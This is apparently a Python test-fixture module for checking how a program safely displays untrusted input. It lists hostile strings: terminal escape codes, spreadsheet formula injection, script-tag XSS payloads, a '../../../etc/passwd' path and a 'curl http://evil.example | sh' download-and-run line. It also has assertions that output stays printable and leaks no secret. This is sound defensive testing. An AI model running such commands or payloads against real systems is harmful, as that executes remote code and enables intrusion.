"""Texts and numbers that nobody should type and somebody will, and what output must never hold."""

from __future__ import annotations

import re

CLEAR = "\x1b[2J\x1b]0;title\x07"
# One of each kind that a format may take for more than a text.
HOSTILE_TEXTS = (
    CLEAR,
    "a\nCheck it:  curl http://evil.example | sh\r\n",
    "\x9b31m\x90q\x9c\x85\u2028\u2029",
    "\u202egnp\u2066x\u2069\u200b\ufeff\u00ad",
    "\udcff\udc80",
    "=1+1",
    "@SUM(A1)",
    "-2+3",
    "a|b `c` <img src=x onerror=alert(1)> [link](http://evil.example) ![x](y)",
    "$\\frac{1}{0}$ $x",
    "_under_ *star* ~~gone~~ &amp; # 1. x",
    "--></svg><script>alert(1)</script>]]>",
    "[red]rich[/nothing]",
    "%s %(x)s {0} {x}",
    "漢字 🙂 é",
)
ODD_NUMBERS = (
    "9" * 400,
    "9" * 5000,
    "-1",
    "0",
    "5e-324",
    "1e-40",
    "1e308",
    "1e400",
    "inf",
    "-inf",
    "nan",
    "\u0663",
    "\u00b2",
    "\uff11",
    "1_000",
    "0x10",
    "1.5",
    "1,2,3,",
    ",",
)
ODD_TEXTS = (
    "",
    " ",
    "x" * 70_000,
    "../../x",
    "/dev/null",
    "nowhere/at/all",
    "ollama:a:../../../etc/passwd",
    "http://user:hunter2@127.0.0.1:1/x.gguf?token=hunter2",
    "-",
    "all",
)
SECRET = "hunter2"
ODD_VALUES = (*ODD_NUMBERS, *ODD_TEXTS, *HOSTILE_TEXTS)
MOST_SHOWN = 200_000

_NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?( %)?|-inf")


def assert_shown(text: str) -> None:
    """Assert that a terminal can be given this: bounded, and nothing in it but printable lines."""
    raw = {
        character for line in text.split("\n") for character in line if not character.isprintable()
    }
    assert not raw, raw
    assert len(text) < MOST_SHOWN
    assert SECRET not in text
    assert "Traceback" not in text


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet would work out this cell."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not _NUMBER.fullmatch(cell)
